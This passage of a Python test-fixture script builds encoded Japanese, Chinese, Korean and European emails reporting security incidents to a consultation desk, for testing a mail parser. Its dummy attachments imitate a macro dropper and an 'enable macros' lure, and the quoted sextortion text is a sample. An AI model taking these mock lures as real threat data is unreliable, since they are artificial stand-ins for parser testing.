先日のセミナーで紹介されていた「標的型メール対策」の冊子を３０部送っていただけないでしょうか。
運転手の休憩室に置いて、全員に読んでもらうつもりです。
送付先は会社の住所でお願いします。

-- 
渡辺運輸有限会社 渡辺 大輔
電話 011-555-0606
"""
S013 = "冊子の送付をお願いします"
add("013-guidebook-euc", crlf(message(headers(
    ew_text("渡辺 大輔", "EUC-JP") + " <watanabe@watanabe-unyu.example.jp>",
    ew_text(S013, "EUC-JP"), "Tue, 24 Nov 2026 08:40:00 +0900", "87fz3l2k.fsf@watanabe-unyu.example.jp",
    ["Content-Type: text/plain; charset=EUC-JP", "Content-Transfer-Encoding: 8bit"]), eucjp(T013))),
    E("case", S013, "渡辺 大輔", "watanabe@watanabe-unyu.example.jp",
      body=["「標的型メール対策」の冊子を３０部送っていただけないでしょうか。"],
      notbody=["電話 011-555-0606"], full=["渡辺運輸有限会社 渡辺 大輔"]),
    """guidebook request 「３０部」 in EUC-JP 8bit (subject and name EUC-JP encoded-words);
"-- " signature.""", T013, T013.split("-- \n")[0])

P014 = ("加藤茶園の加藤です。\n\n当店の商品写真と説明文をそのまま使った偽の \n通販サイトが見つかりました。"
        "お客様から「半額で売っているが本当に \nそちらのお店か」と問い合わせがあり、気づきました。\n"
        "偽サイトのURLは https://kato-tea-sale.example.shop/ です。\n\n"
        "どこに連絡すれば閉鎖してもらえるか \n教えてください。\n\n-- \n加藤茶園 店長 加藤 まゆみ\nTEL 0547-55-0606\n")
V014 = P014.replace("\n-- \n", "\0").replace(" \n", "").replace("\0", "\n-- \n")
H014 = """<html><body><p>加藤茶園の加藤です。（HTML表示）</p>
<p>当店の商品写真と説明文をそのまま使った偽の通販サイトが見つかりました。</p></body></html>
"""
S014 = "当店になりすました偽の通販サイトについて"
add("014-cloned-shop-flowed", crlf(message(headers(
    ew_text("加藤 まゆみ") + " <kato@kato-tea.example.jp>", ew_text(S014, "utf-8", "q"),
    "Tue, 24 Nov 2026 10:12:33 +0900", "2C1E4F7A-77B1-4C0B-9D35-1A2B3C4D5E6F@kato-tea.example.jp",
    ['Content-Type: multipart/alternative; boundary="Apple-Mail=_1F2E3D4C-5B6A-4978-8695-A4B3C2D1E0F9"']),
    multipart("Apple-Mail=_1F2E3D4C-5B6A-4978-8695-A4B3C2D1E0F9", [
        part(["Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes",
              "Content-Transfer-Encoding: 8bit"], P014.encode()),
        part(["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"], H014.encode())]))),
    E("case", S014, "加藤 まゆみ", "kato@kato-tea.example.jp",
      body=["当店の商品写真と説明文をそのまま使った偽の通販サイトが見つかりました。",
            "「半額で売っているが本当にそちらのお店か」", "どこに連絡すれば閉鎖してもらえるか教えてください。"],
      notbody=["（HTML表示）", "TEL 0547-55-0606"], full=["加藤茶園 店長 加藤 まゆみ"]),
    """cloned web shop; multipart/alternative where text/plain wins over text/html;
format=flowed; delsp=yes (soft breaks joined without the space); "-- " is not a flowed
line; lowercase utf-8/q encoded-words.""", V014 + H014, V014.split("-- \n")[0])

T015 = """お世話になります。松本石油の松本です。
店舗に設置している防犯カメラの映像が、海外のサイトで誰でも見られる状態になっていると
取引先から教えてもらいました。実際に確認すると、給油所の様子がそのまま映っていました。
カメラとレコーダーは５年前に業者に設置してもらったもので、パスワードは初期設定のままだと思います。
電源を抜いた方がよいのか、設定を変えればよいのか教えていただけますか。
"""
S015 = "防犯カメラの映像がインターネットで公開されています"
add("015-iot-camera-euc", crlf(message(headers(
    ew_text("松本 隆", "EUC-JP") + " <matsumoto@matsumoto-gs.example.jp>",
    ew_text(S015, "EUC-JP", fold="\n\t"), "Tue, 24 Nov 2026 11:48:20 +0900", "20261124114820.9C3D@matsumoto-gs.example.jp",
    ["Content-Type: text/plain; charset=euc-jp", "Content-Transfer-Encoding: 8bit"]), eucjp(T015))),
    E("case", S015, "松本 隆", "matsumoto@matsumoto-gs.example.jp",
      body=["カメラとレコーダーは５年前に業者に設置してもらったもので、パスワードは初期設定のままだと思います。"]),
    """IoT camera exposed; EUC-JP body; subject as EUC-JP encoded-words folded with
CRLF TAB (the whitespace between them dropped).""", T015)

T016 = """相談窓口 ご担当者様

お世話になります。山﨑税理士事務所の山﨑です。
昨夜、ﾏｲｸﾛｿﾌﾄから「新しいｻｲﾝｲﾝがありました」という通知が届きました。
確認すると、海外からのサインインが成功していて、受信トレイのルールが勝手に作られていました。
顧客管理番号№0042のお客様とのメールが外部に転送されていたようです。
パスワードは変更しましたが、ほかに何をすべきでしょうか。
"""
S016 = "Microsoft 365 に不正ログインされた可能性があります"
add("016-m365-login-hwkana", crlf(message(headers(
    ew_text("山﨑 さくら", "ISO-2022-JP") + " <yamazaki@yamazaki-tax.example.jp>",
    ew_text(S016, "ISO-2022-JP"), "Tue, 24 Nov 2026 09:02:44 +0900", "20261124090244.71AB@yamazaki-tax.example.jp",
    ["Content-Type: text/plain; charset=iso-2022-jp", "Content-Transfer-Encoding: 7bit"]), jis(T016))),
    E("case", S016, "山﨑 さくら", "yamazaki@yamazaki-tax.example.jp",
      body=["山﨑税理士事務所の山﨑です。", "「新しいｻｲﾝｲﾝがありました」", "顧客管理番号№0042のお客様"]),
    """unauthorised Microsoft 365 sign-in; ISO-2022-JP with half-width katakana via
ESC ( I, IBM extension 﨑 and NEC № (CP50220); encoded-word mixing ASCII and kanji.""", T016)

T017 = """宅配業者を名乗るSMSが届き、「お届け物を持ち帰りました」とあったのでリンクを開いてしまいました。
開いた先でアプリをインストールするよう表示され、インストールしてしまいました。
その後、自分のスマートフォンから知らない番号へ大量のSMSが送信されているようです。
会社支給のスマートフォンで、取引先の連絡先も入っています。
"""
S017 = "宅配業者を装ったSMSのリンクを開いてしまいました"
s17 = S017.encode()
assert not valid_utf8(s17[:10]) and not valid_utf8(s17[10:40])
add("017-smishing-b64-oneline", crlf(message(headers(
    ew_text("清水 翔太") + " <shota.shimizu@shimizu-koumuten.example.jp>",
    ew("UTF-8", s17[:10]) + "\n " + ew("UTF-8", s17[10:40]) + "\n " + ew("UTF-8", s17[40:]),
    "Tue, 24 Nov 2026 19:30:02 +0900", "CAGx7_smish01@mail.gmail.example.com",
    ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: base64"]),
    b64_oneline(T017.encode()))),
    E("case", S017, "清水 翔太", "shota.shimizu@shimizu-koumuten.example.jp",
      body=["その後、自分のスマートフォンから知らない番号へ大量のSMSが送信されているようです。"]),
    """smishing; subject in UTF-8 B encoded-words that split multibyte characters
between words; body base64 as one long line.""", T017)

CID018 = "image001.png@01DB3C2A.5F3E1B20"
T018 = """経理ご担当者様

森建設の森です。
取引先を装った偽の請求書メールが届きました。画面の写真を貼り付けます。
[cid:%s]
差出人のアドレスが取引先と一文字だけ違っていました。
添付ファイルは開いていません。

------------------------------
森建設株式会社 経理課
森 大輔
〒790-0001 愛媛県松山市一番町9-9
TEL 089-555-0707 FAX 089-555-0708
------------------------------
""" % CID018
H018 = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp">
<style><!-- p.MsoNormal {margin:0mm; font-size:10.5pt;} --></style></head>
<body lang="JA"><div class="WordSection1">
<p class="MsoNormal">森建設の森です。（HTML版）</p>
<p class="MsoNormal"><img width="320" height="240" src="cid:%s"></p>
</div></body></html>
""" % CID018
PNG018 = png_bytes(12, 9, 3)
S018 = "取引先を装った請求書メールが届きました"
add("018-fake-invoice-related", crlf(message(headers(
    '"' + ew_text("森 大輔", "iso-2022-jp", codec=jis) + '" <d.mori@mori-kensetsu.example.jp>',
    ew_text(S018, "iso-2022-jp", codec=jis), "Wed, 25 Nov 2026 09:14:51 +0900",
    "TY3PR01MB1234567A1B2C3D4E5F6A7B8C9D0@TY3PR01MB1234.jpnprd01.prod.outlook.example.com",
    ['Content-Type: multipart/related;\n\tboundary="_004_TY3PR01MB1234_";\n\ttype="multipart/alternative"']),
    multipart("_004_TY3PR01MB1234_", [
        part(['Content-Type: multipart/alternative;\n\tboundary="_000_TY3PR01MB1234_"'],
             multipart("_000_TY3PR01MB1234_", [
                 part(['Content-Type: text/plain; charset="iso-2022-jp"', "Content-Transfer-Encoding: 7bit"], jis(T018)),
                 part(['Content-Type: text/html; charset="iso-2022-jp"', "Content-Transfer-Encoding: quoted-printable"],
                      qp(jis(H018)))])),
        part(['Content-Type: image/png; name="image001.png"', "Content-Description: image001.png",
              'Content-Disposition: inline; filename="image001.png"; size=%d;\n\tcreation-date="Wed, 25 Nov 2026 00:14:40 GMT"' % len(PNG018),
              "Content-ID: <%s>" % CID018, "Content-Transfer-Encoding: base64"], b64(PNG018))]))),
    E("case", S018, "森 大輔", "d.mori@mori-kensetsu.example.jp",
      body=["取引先を装った偽の請求書メールが届きました。", "差出人のアドレスが取引先と一文字だけ違っていました。"],
      notbody=["（HTML版）", "TEL 089-555-0707"], full=["TEL 089-555-0707 FAX 089-555-0708"],
      atts=[att("image001.png", PNG018)]),
    """Outlook layout: multipart/related { multipart/alternative {plain, html}, inline
image001.png with Content-ID } -> the image is an attachment; encoded-word inside quotes
in From; ------ signature with 株式会社/〒/TEL.""", T018 + "（HTML版）", T018.split("-----")[0])

T019 = """お世話になっております。美容室イノウエの井上です。
お店の宣伝に使っているInstagramのアカウントに、昨日からログインできなくなりました。
登録メールアドレスも勝手に変えられていて、フォロワーに「投資で稼げる」という怪しいメッセージが送られているようです。
運営に復旧を申し込むページ https://help.instagram.example/recover?token=7f3a9c&lang=ja から手続きしましたが返事がありません。
お客様に注意を呼びかけたほうがよいでしょうか。
"""
S019 = "会社のInstagramアカウントが乗っ取られました"
s19 = S019.encode()
w19 = [s19[i:i + 20] for i in range(0, len(s19), 20)]
assert any(not valid_utf8(w) for w in w19)
add("019-sns-hijack-qp", crlf(message(headers(
    ew_text("井上 あや", "utf-8", "q") + " <aya@salon-inoue.example.jp>",
    "\n ".join(ew("utf-8", w, "q") for w in w19), "Wed, 25 Nov 2026 12:00:59 +0900",
    "b3c4d5e6-0001-4a2b-9c8d-salon@salon-inoue.example.jp",
    ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable"]),
    qp(T019.encode()))),
    E("case", S019, "井上 あや", "aya@salon-inoue.example.jp",
      body=["登録メールアドレスも勝手に変えられていて、フォロワーに「投資で稼げる」という怪しいメッセージが送られているようです。",
            "https://help.instagram.example/recover?token=7f3a9c&lang=ja"]),
    """hijacked SNS account; subject as lowercase utf-8 Q encoded-words that split
multibyte characters; Q underscore in the name; body QP with soft breaks and =3D.""", T019)

T020 = """相談窓口 御中

林設計事務所の林です。
以前やり取りしたことのある会社の名前で、過去のメールの件名に「Re:」を付けた形で
ZIPファイル付きのメールが届きました。本文にパスワードが書かれています。
Emotetではないかと思い、開かずに転送します。確認していただけますでしょうか。
"""
TI020 = """林様

いつもお世話になっております。
ご依頼のお見積書を添付いたします。
パスワードは 1125 です。
"""
ZIP020 = zip_bytes([("見積書_1120.doc", b"This is not a real Word document; it stands for a macro dropper.\r\n")])
N020 = "見積書_1120.zip"
INNER020 = message(headers(
    '"' + ew_text("株式会社サンプル商事 営業部", "ISO-2022-JP") + '" <info@sample-shoji.example.com>',
    ew_text("Re: お見積りの件", "ISO-2022-JP"), "Wed, 25 Nov 2026 08:12:40 +0900",
    "fake.20261125081240@sample-shoji.example.com",
    ['Content-Type: multipart/mixed; boundary="inner-mix-1"'], to="hayashi@hayashi-sekkei.example.jp"),
    multipart("inner-mix-1", [
        text_part(TI020, "ISO-2022-JP", "7bit"),
        part(['Content-Type: application/zip; name="%s"' % ew_text(N020, "ISO-2022-JP"),
              'Content-Disposition: attachment; filename="%s"' % ew_text(N020, "ISO-2022-JP"),
              "Content-Transfer-Encoding: base64"], b64(ZIP020))]))
S020 = "Fwd: Re: お見積りの件（不審なメールの転送）"
add("020-emotet-forward", crlf(message(headers(
    ew_text("林 浩二") + " <hayashi@hayashi-sekkei.example.jp>", ew_text(S020),
    "Wed, 25 Nov 2026 10:03:17 +0900", "e1f2a3b4c5d6@hayashi-sekkei.example.jp",
    ['Content-Type: multipart/mixed; boundary="----=_Part_77_1122334455.1764032597000"']),
    multipart("----=_Part_77_1122334455.1764032597000", [
        text_part(T020),
        part(["Content-Type: message/rfc822"], INNER020)]))),
    E("case", S020, "林 浩二", "hayashi@hayashi-sekkei.example.jp",
      body=["ZIPファイル付きのメールが届きました。本文にパスワードが書かれています。"],
      atts=[att(N020, ZIP020)]),
    """suspected Emotet, forwarded inline as message/rfc822 (no file name): it is walked
into, so the ZIP inside it (RFC 2047 name in quotes, ISO-2022-JP) is the attachment.""", T020)

T021 = """ご担当者様

株式会社青木印刷の青木でございます。
昨日、営業担当者が顧客情報の入ったUSBメモリを電車内で紛失しました。
入っていたのは次のデータです。
① 得意先約３００社の名簿（会社名・担当者名・電話番号）
② 見積書のPDF 約５０件
USBメモリにはパスワードをかけていませんでした。
お客様への連絡や、どこかへの報告が必要か教えていただけますでしょうか。
"""
S021 = "顧客情報の入ったUSBメモリを紛失しました"
add("021-usb-lost-win31j", crlf(message(headers(
    ew_text("青木 聡", "Shift_JIS") + " <aoki@aoki-insatsu.example.jp>",
    ew_text(S021, "Shift_JIS"), "Wed, 25 Nov 2026 15:25:00 +0900", "20261125152500.0042@aoki-insatsu.example.jp",
    ["Content-Type: text/plain; charset=Windows-31J", "Content-Transfer-Encoding: 8bit"]), sjis(T021))),
    E("case", S021, "青木 聡", "aoki@aoki-insatsu.example.jp",
      body=["① 得意先約３００社の名簿（会社名・担当者名・電話番号）", "USBメモリにはパスワードをかけていませんでした。"]),
    """lost USB stick; charset label Windows-31J (CP932 alias) with NEC row 13 ①②.""", T021)

T022 = """相談窓口 御中（CCで失礼します）

斉藤旅館の斉藤です。
当館のホームページのトップに、見覚えのない外国語の文章と画像が表示されるようになりました。
制作会社の木村さんとのやり取りを下に残しておきます。
予約フォームからお客様の情報が漏れていないか心配です。

2026年11月24日(火) 9:41 ウェブ制作 木村 <kimura@web-vendor.example.jp>:
> 斉藤様
>
> 確認したところ、管理画面に不明な管理者アカウントが追加されていました。
> サーバーのログを保全しています。
"""
S022 = "Re: ホームページが改ざんされました (2nd) 追加情報"
add("022-defacement-mixed-words", crlf(message(headers(
    ew("UTF-8", "斉藤 修".encode(), "Q") + " <saito@saito-ryokan.example.jp>",
    "Re: " + ew("UTF-8*ja", "ホームページが改ざんされました".encode()) + " (2nd) " + ew("UTF-8", "追加情報".encode()),
    "Wed, 25 Nov 2026 18:07:30 +0900", "20261125180730.4411@saito-ryokan.example.jp",
    ["Cc: kimura@web-vendor.example.jp", "In-Reply-To: <20261124094100.77@web-vendor.example.jp>",
     "References: <20261124094100.77@web-vendor.example.jp>"] + TEXT_UTF8_8), T022.encode())),
    E("case", S022, "斉藤 修", "saito@saito-ryokan.example.jp",
      body=["見覚えのない外国語の文章と画像が表示されるようになりました。"],
      notbody=["管理画面に不明な管理者アカウントが追加されていました"],
      full=["> 確認したところ、管理画面に不明な管理者アカウントが追加されていました。"]),
    """website defacement; a "Re:" whose References are unknown to the desk is a new
case; subject mixes plain words with encoded-words incl. RFC 2231 language
=?UTF-8*ja?B?…?=; Q encoded name with "_"; attribution line and "> " history.""",
    T022, T022.split("2026年11月24日")[0])

T023 = """相談窓口 ご担当者様

遠藤クリニックの遠藤です。
院内の予約管理サーバーに、海外から大量のログイン試行が続いています。
ログの一部を添付しますので、対応が必要か見ていただけないでしょうか。
"""
LOG023 = ("Nov 25 02:14:07 yoyaku sshd[2211]: Failed password for root from 198.51.100.23 port 51122 ssh2\n"
          "Nov 25 02:14:09 yoyaku sshd[2211]: Failed password for root from 198.51.100.23 port 51122 ssh2\n"
          "Nov 25 02:14:12 yoyaku sshd[2214]: Failed password for invalid user admin from 198.51.100.23 port 51130 ssh2\n"
          "# 遠藤メモ: 夜中の2時から朝まで続いていました\n").encode()
N023 = "不審なログ.txt"
S023 = "サーバーへの不審なログイン試行について"
add("023-ssh-log-attachment", crlf(message(headers(
    "Endo Takeshi <T.Endo@Endo-Clinic.example.JP>", ew_text(S023), "Wed, 25 Nov 2026 08:55:00 +0900",
    "4c2b1a09-2026-1125-0855@endo-clinic.example.jp",
    ['Content-Type: multipart/mixed; boundary="=-=-=endo-0001=-=-="']),
    multipart("=-=-=endo-0001=-=-=", [
        text_part(T023),
        part(['Content-Type: text/plain; charset=UTF-8; name="%s"' % ew_text(N023, "ISO-2022-JP"),
              'Content-Disposition: attachment; filename="%s"' % ew_text(N023, "ISO-2022-JP"),
              "Content-Transfer-Encoding: base64"], b64(LOG023))]))),
    E("case", S023, "Endo Takeshi", "T.Endo@endo-clinic.example.jp",
      body=["院内の予約管理サーバーに、海外から大量のログイン試行が続いています。"],
      atts=[att(N023, LOG023, "不審なログ.txt")]),
    """SSH brute force; a text/plain part with Content-Disposition attachment is an
attachment (sniffed text/plain); ISO-2022-JP encoded-word file name in quotes; local
part keeps its case, domain lower-cased.""", T023)

T024 = """您好：

我是在东京经营中华料理店的王。
我们店的网上订餐页面被人仿冒了，有顾客在假网站上付了钱，却没有收到任何饭菜。
请问我们应该怎么处理？需要报警吗？

王伟
"""
S024 = "关于假冒我店网站的咨询"
g024 = T024.encode("gb2312")
add("024-chinese-gb2312", crlf(message(headers(
    ew("GB2312", "王 伟".encode("gb2312")) + " <wang@wang-ryori.example.jp>", ew("GB2312", S024.encode("gb2312")),
    "Wed, 25 Nov 2026 21:10:00 +0900", "20261125211000.1001@wang-ryori.example.jp",
    ["Content-Type: text/plain; charset=GB2312", "Content-Transfer-Encoding: 8bit"]), g024)),
    E("case", S024, "王 伟", "wang@wang-ryori.example.jp",
      body=["我们店的网上订餐页面被人仿冒了，有顾客在假网站上付了钱，却没有收到任何饭菜。"]),
    """cloned ordering page, Simplified Chinese in GB2312 (8bit body, B encoded-words).""", T024)

T025 = """您好：

我們是台灣貿易公司的日本分公司。
公司的電子郵件帳號被盜用，對客戶發送了要求匯款的詐騙郵件。
已經更改了密碼，請問還需要做什麼？

陳志明
"""
S025 = "公司郵件帳號被盜用的諮詢"
add("025-taiwan-big5", crlf(message(headers(
    ew("Big5", "陳 志明".encode("big5")) + " <chen@formosa-trading.example.jp>", ew("big5", S025.encode("big5")),
    "Thu, 26 Nov 2026 09:40:00 +0900", "20261126094000.2002@formosa-trading.example.jp",
    ["Content-Type: text/plain; charset=Big5", "Content-Transfer-Encoding: base64"]), b64(T025.encode("big5")))),
    E("case", S025, "陳 志明", "chen@formosa-trading.example.jp",
      body=["公司的電子郵件帳號被盜用，對客戶發送了要求匯款的詐騙郵件。"]),
    """account takeover, Traditional Chinese in Big5 (base64 body, B encoded-words).""", T025)

T026 = """안녕하세요.
오사카에서 한국 식당을 운영하고 있는 김민수입니다.
가게 컴퓨터의 파일이 모두 열리지 않고, 돈을 요구하는 메시지가 나타났습니다.
어떻게 해야 할지 알려 주십시오.
"""
S026 = "가게 컴퓨터가 랜섬웨어에 감염되었습니다"
add("026-korean-euckr", crlf(message(headers(
    ew("EUC-KR", "김 민수".encode("euc_kr")) + " <kim@kimchi-house.example.jp>", ew("EUC-KR", S026.encode("euc_kr")),
    "Thu, 26 Nov 2026 11:11:11 +0900", "20261126111111.3003@kimchi-house.example.jp",
    ["Content-Type: text/plain; charset=EUC-KR", "Content-Transfer-Encoding: 8bit"]), T026.encode("euc_kr"))),
    E("case", S026, "김 민수", "kim@kimchi-house.example.jp",
      body=["가게 컴퓨터의 파일이 모두 열리지 않고, 돈을 요구하는 메시지가 나타났습니다."]),
    """ransomware, Korean in EUC-KR (8bit body, B encoded-words).""", T026)

T027 = """Bonjour,

Je suis importatrice de vins à Kobe. Notre boutique en ligne a été piratée hier soir :
les clients reçoivent des courriels demandant de « mettre à jour » leur carte bancaire.
Pourriez-vous nous conseiller sur les démarches à suivre ?

Élodie Mercier
"""
l027 = T027.encode("latin-1")
assert not strict_cp932_valid(l027) and not valid_utf8(l027)
S027 = "Notre boutique en ligne a été piratée"
add("027-french-latin1", crlf(message(headers(
    "=?iso-8859-1?q?=C9lodie_Mercier?= <elodie@vins-mercier.example.jp>",
    "=?ISO-8859-1?Q?Notre_boutique_en_ligne_a_=E9t=E9_pirat=E9e?=", "Thu, 26 Nov 2026 13:05:00 +0900",
    "20261126130500.4004@vins-mercier.example.jp",
    ["Content-Type: text/plain; charset=ISO-8859-1", "Content-Transfer-Encoding: quoted-printable"]), qp(l027))),
    E("case", S027, "Élodie Mercier", "elodie@vins-mercier.example.jp",
      body=["Notre boutique en ligne a été piratée hier soir :", "« mettre à jour »"]),
    """hacked web shop, French in ISO-8859-1 quoted-printable (bytes invalid as CP932 and
UTF-8, so no detection question).""", T027)

T028 = """Sehr geehrte Damen und Herren,

wir sind ein kleiner Maschinenteile-Händler in Yokohama.
Heute haben wir eine gefälschte Rechnung über 4.800 € erhalten, Betreff „Dringende Zahlungsaufforderung“.
Die Absenderadresse sieht aus wie die unseres Lieferanten.

Mit freundlichen Grüßen
Jürgen Bauer
"""
w028 = T028.encode("cp1252")
assert not strict_cp932_valid(w028) and not valid_utf8(w028)
S028 = "Gefälschte Rechnung – bitte um Hilfe"
add("028-german-cp1252", crlf(message(headers(
    "=?windows-1252?Q?J=FCrgen_Bauer?= <j.bauer@bauer-teile.example.jp>",
    "=?windows-1252?Q?Gef=E4lschte_Rechnung_=96_bitte_um_Hilfe?=", "Thu, 26 Nov 2026 14:30:00 +0900",
    "20261126143000.5005@bauer-teile.example.jp",
    ["Content-Type: text/plain; charset=windows-1252", "Content-Transfer-Encoding: 8bit"]), w028)),
    E("case", S028, "Jürgen Bauer", "j.bauer@bauer-teile.example.jp",
      body=["gefälschte Rechnung über 4.800 € erhalten", "„Dringende Zahlungsaufforderung“"]),
    """fake invoice, German in Windows-1252 8bit: € „ “ – from the 0x80-0x9F range.""", T028)

T029 = """相談窓口 ご担当者様

近藤整骨院の近藤です。
下記のような脅迫メールが届きました。差出人が私自身のメールアドレスになっています。
パスワードが実際に使っていたものと同じで、とても不安です。

> あなたのパソコンをハッキングしました。
> ４８時間以内にビットコインで１５００ドルを支払わなければ、
> あなたの恥ずかしい動画を連絡先全員に送ります。
"""
S029 = "脅迫メールが届きました（ビットコインを要求されています）"
j29 = jis(S029)
cut = 3 + 2 * 10 + 1
assert j29[:3] == b"\x1b$B" and cut < 42 and len(j29) - cut <= 42
add("029-sextortion-iso2022", crlf(message(headers(
    ew_text("近藤 恵", "ISO-2022-JP") + " <kondo@kondo-seikotsu.example.jp>",
    ew("ISO-2022-JP", j29[:cut]) + "\n " + ew("ISO-2022-JP", j29[cut:]), "Thu, 26 Nov 2026 16:45:12 +0900",
    "20261126164512.6006@kondo-seikotsu.example.jp",
    ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]), jis(T029))),
    E("case", S029, "近藤 恵", "kondo@kondo-seikotsu.example.jp",
      body=["差出人が私自身のメールアドレスになっています。"],
      notbody=["恥ずかしい動画を連絡先全員に送ります"],
      full=["> あなたのパソコンをハッキングしました。"]),
    """sextortion; ISO-2022-JP subject split between two encoded-words in the middle of
a two-byte character (the second word starts with a lone JIS byte, no escape).""",
    T029, T029.split("> ")[0])

T030 = """ご担当者様

小松商事の小松です。
知らない会社から「取引先からの添付.zip」というファイル付きのメールが届き、
別のメールで解凍用のパスワードが送られてきました。いわゆるPPAPの形です。
開いても大丈夫か判断がつかないので、ファイルごと送ります。
"""
ZIP030 = zip_bytes([("添付資料/注文一覧.xlsm", stream(b"xlsm", 300)), ("添付資料/readme.txt", b"open the xlsm and enable macros\r\n")])
N030 = "取引先からの添付.zip"
S030 = "パスワード付きZIPファイルが届きました"
add("030-ppap-zip", crlf(message(headers(
    ew_text("小松 直樹") + " <komatsu@komatsu-shoji.example.jp>", ew_text(S030),
    "Fri, 27 Nov 2026 09:20:00 +0900", "20261127092000.7007@komatsu-shoji.example.jp",
    ['Content-Type: multipart/mixed; boundary="--komatsu-b1"']),
    multipart("--komatsu-b1", [
        text_part(T030, "ISO-2022-JP", "7bit"),
        part(["Content-Type: application/x-zip-compressed",
              "Content-Disposition: attachment;\n filename*=ISO-2022-JP''" + pct(jis(N030)),
              "Content-Transfer-Encoding: base64"], b64(ZIP030))]))),
    E("case", S030, "小松 直樹", "komatsu@komatsu-shoji.example.jp",
      body=["別のメールで解凍用のパスワードが送られてきました。いわゆるPPAPの形です。"],
      atts=[att(N030, ZIP030)]),
    """PPAP zip; RFC 2231 file name in ISO-2022-JP (percent-encoded escapes); boundary
beginning with "--".""", T030)

T031 = """相談窓口 御中

有限会社大野電機の大野です。
ＦＡＸで「ドメイン更新料」の請求書が届きました。当社はそのような契約をした覚えがありません。
スキャンしたものを添付します。払わなくてよいものでしょうか。
"""
TIF031 = tiff_bytes()
N031 = "請求書_スキャン.tif"
S031 = "ＦＡＸで届いた請求書について"
add("031-fax-tiff-scan", crlf(message(headers(
    ew_text("大野 勝", "ISO-2022-JP") + " <ohno@ohno-denki.example.jp>", ew_text(S031, "ISO-2022-JP"),
    "Fri, 27 Nov 2026 10:00:00 +0900", "20261127100000.8008@ohno-denki.example.jp",
    ['Content-Type: multipart/mixed; boundary="scan-0001"']),
    multipart("scan-0001", [
        text_part(T031, "ISO-2022-JP", "7bit"),
        part(['Content-Type: image/tiff; name="%s"' % ew_text(N031, "ISO-2022-JP"),
              "Content-Transfer-Encoding: base64"], b64(TIF031))]))),
    E("case", S031, "大野 勝", "ohno@ohno-denki.example.jp",
      body=["ＦＡＸで「ドメイン更新料」の請求書が届きました。"], atts=[att(N031, TIF031)]),
    """fake domain renewal invoice; TIFF attachment named only by Content-Type name=
holding a quoted ISO-2022-JP encoded-word.""", T031)

T032a = """相談窓口さま

藤田です。パソコンの画面に警告が出て消えません。写真を撮りました。
"""
T032b = """
iPhoneから送信
"""
JPG032 = jpeg_bytes(900)
S032 = "画面に警告が出て消えません"
add("032-phone-photo-jpeg", crlf(message(headers(
    ew_text("藤田　真一") + " <shin.fujita@icloud.example.com>", ew_text(S032),
    "Fri, 27 Nov 2026 12:34:56 +0900", "A1B2C3D4-E5F6-47A8-B9C0-D1E2F3A4B5C6@icloud.example.com",
    ['Content-Type: multipart/mixed; boundary="Apple-Mail-7A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9"']),
    multipart("Apple-Mail-7A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9", [
        part(["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"], qp(T032a.encode())),
        part(['Content-Type: image/jpeg; name="IMG_0123.JPG"; x-apple-part-url=0A1B2C3D',
              'Content-Disposition: inline; filename="IMG_0123.JPG"', "Content-Transfer-Encoding: base64"], b64(JPG032)),
        part(["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit"], T032b.encode())]))),
    E("case", S032, "藤田　真一", "shin.fujita@icloud.example.com",
      body=["パソコンの画面に警告が出て消えません。写真を撮りました。"], atts=[att("IMG_0123.JPG", JPG032)]),
    """iPhone mail: text, inline JPEG with a file name (an attachment), text again;
display name with a full-width space U+3000 kept as is.""", T032a + T032b)

T033 = """相談窓口 ご担当者様

先日はありがとうございました。高田ネットワークの高田です。
セミナーでいただいたセキュリティチェックシートに記入しましたので送ります。
あわせて、ルーターから書き出したアクセスログ（CSV）も付けます。
"""
DOCX033 = zip_bytes([("[Content_Types].xml", b'<?xml version="1.0" encoding="UTF-8"?><Types/>'),
                     ("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?><w:document>チェックシート</w:document>'.encode())])
CSV033 = sjis("日時,送信元IP,結果\n2026/11/25 02:14,198.51.100.23,失敗\n2026/11/25 02:15,198.51.100.23,成功\n".replace("\n", "\r\n"))
N033a, N033b = "セキュリティチェックシート.docx", "アクセスログ.csv"
S033 = "チェックシートとログの送付"
add("033-docx-and-sjis-csv", crlf(message(headers(
    ew_text("高田 誠") + " <takada@takada-net.example.jp>", ew_text(S033),
    "Fri, 27 Nov 2026 15:00:00 +0900", "20261127150000.9009@takada-net.example.jp",
    ['Content-Type: multipart/mixed; boundary="takada-boundary"']),
    multipart("takada-boundary", [
        text_part(T033),
        part(["Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document",
              "Content-Disposition: attachment; filename*=utf-8''" + pct(N033a.encode()),
              "Content-Transfer-Encoding: base64"], b64(DOCX033)),
        part(["Content-Type: text/csv; charset=Shift_JIS",
              "Content-Disposition: attachment; filename*=Shift_JIS''" + pct(sjis(N033b)),
              "Content-Transfer-Encoding: base64"], b64(CSV033))]))),
    E("case", S033, "高田 誠", "takada@takada-net.example.jp",
      body=["セミナーでいただいたセキュリティチェックシートに記入しましたので送ります。"],
      atts=[att(N033a, DOCX033), att(N033b, CSV033)]),
    """two attachments: a .docx sniffed as application/zip, and a Shift_JIS CSV sniffed
as application/octet-stream (not UTF-8); RFC 2231 names in utf-8 and Shift_JIS.""", T033)

P034 = """Hello,

I am writing from Osaka Lighting Trading, a small import company in Osaka. 
Last night a company laptop was stolen from a car parked near our office. 
The laptop was not encrypted and contained customer data.

Could you tell us what we should report, and to whom?

Best regards,
-- 
Daniel Weber
+81-6-5555-0909
"""
V034 = P034.replace("\n-- \n", "\0").replace(" \n", " ").replace("\0", "\n-- \n")
S034 = "Stolen company laptop with customer data"
add("034-english-flowed", crlf(message(headers(
    "Daniel Weber <d.weber@osaka-lighting.example.jp>", S034, "Fri, 27 Nov 2026 17:20:00 +0900",
    "20261127172000.1010@osaka-lighting.example.jp",
    ["Content-Type: text/plain; charset=us-ascii; format=flowed", "Content-Transfer-Encoding: 7bit"]), P034.encode())),
